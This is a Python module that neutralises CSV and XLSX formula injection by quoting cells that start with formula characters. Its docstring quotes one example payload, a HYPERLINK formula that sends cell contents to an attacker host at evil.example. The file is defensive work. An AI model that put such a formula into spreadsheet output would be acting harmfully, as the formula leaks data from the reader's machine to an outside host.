"""Spreadsheet cells that a spreadsheet will never run: the one rule for every CSV and XLSX written.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before looking) is read by Excel, LibreOffice and Numbers as a formula:
``=HYPERLINK("http://evil.example/?"&A1, "click")`` in a task's text or a report's narrative would
run on the reader's machine (OWASP "CSV injection"). Every download (CSV and XLSX) writes such
text with a leading apostrophe, the spreadsheet convention for "this is text" (``cell_safe``;
``cell_restored`` removes it when a file the system wrote comes back). The one exception is the
progress workbook a department fills in and uploads again: its cells keep the exact text and say
"text" themselves (string type and Excel's quote-prefix flag, ``xlsx_cell_protect``), so the round
trip changes nothing and the text stays text when someone edits it.
"""

from __future__ import annotations

from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_LEADS = frozenset({"=", "+", "-", "@", "\t", "\r"})


def formula_like(value: Any) -> bool:
    """True for text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value[:1] in FORMULA_LEADS


def cell_safe(value: Any) -> Any:
    """``value`` for a CSV or XLSX cell: formula-like text gets a leading apostrophe, the rest is unchanged."""
    return "'" + value if formula_like(value) else value


def cell_restored(value: Any) -> Any:
    """The text ``cell_safe`` was given: drops the apostrophe it added (and only that one)."""
    if isinstance(value, str) and value[:1] == "'" and value[1:2] in FORMULA_LEADS:
        return value[1:]
    return value


def xlsx_cell_protect(cell: Any) -> Any:
    """An openpyxl cell (normal or write-only) whose formula-like text is stored as quoted text; returns it."""
    if formula_like(cell.value):
        cell.data_type = "s"  # openpyxl would otherwise write "=..." as a formula
        cell.quotePrefix = True
    return cell
